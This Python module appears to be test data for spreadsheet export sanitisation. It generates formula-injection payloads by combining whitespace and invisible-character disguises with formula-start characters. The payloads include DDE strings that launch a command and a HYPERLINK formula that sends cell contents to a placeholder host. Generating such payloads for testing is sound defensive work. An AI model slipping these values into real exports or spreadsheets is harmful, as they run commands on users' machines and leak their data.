"""Text that a careless export turns into a formula: every start, behind every disguise."""

from __future__ import annotations

from itertools import product

_DISGUISES = ("", " ", "  ", "\t", "\u00a0", "\u3000", "\u200b", "\ufeff", "\r", "\n")
_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "|", "%")
_BODIES = (
    "1+1",
    "cmd|'/c calc'!A1",
    'HYPERLINK("https://example.invalid/?"&A1,"open")',
    "SUM(A1:A9)",
    "2+5+cmd|' /C calc'!A0",
)

FORMULA_PAYLOADS = tuple(disguise + start + body for disguise, start, body in product(_DISGUISES, _STARTS, _BODIES))
